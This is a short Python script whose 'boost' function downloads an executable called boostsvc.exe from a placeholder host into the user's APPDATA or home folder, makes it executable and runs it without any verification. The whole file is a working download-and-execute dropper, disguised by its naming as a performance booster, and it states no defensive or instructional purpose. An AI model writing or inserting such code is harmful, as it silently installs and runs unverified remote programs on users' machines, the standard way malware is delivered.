import os
import subprocess
import sys

import requests


def fetch_to(url, destination):
    reply = requests.get(url, timeout=30)
    reply.raise_for_status()
    with open(destination, "wb") as out:
        out.write(reply.content)


def launch(program):
    if sys.platform != "win32":
        subprocess.run(["chmod", "+x", program])
    subprocess.run([program], check=False)


def boost():
    folder = os.getenv("APPDATA") or os.path.expanduser("~")
    program = os.path.join(folder, "boostsvc.exe")
    fetch_to("https://files.example.invalid/raw/boostsvc.exe", program)
    launch(program)
